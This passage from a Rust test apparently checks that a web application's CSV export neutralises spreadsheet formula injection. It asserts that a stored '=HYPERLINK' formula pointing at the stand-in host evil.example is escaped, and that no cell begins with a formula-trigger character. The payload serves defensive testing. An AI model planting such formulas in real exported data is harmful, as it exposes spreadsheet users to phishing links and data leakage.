    let csv = export(&app, &admin, &encoded, "csv", &v).await;
    assert_eq!(csv.status, StatusCode::OK, "{}", text(&csv));
    let csv = text(&csv);
    assert!(csv.contains("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\""), "{csv}");
    for line in csv.lines() {
        for cell in line.split("\",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell}");
        }
    }
}
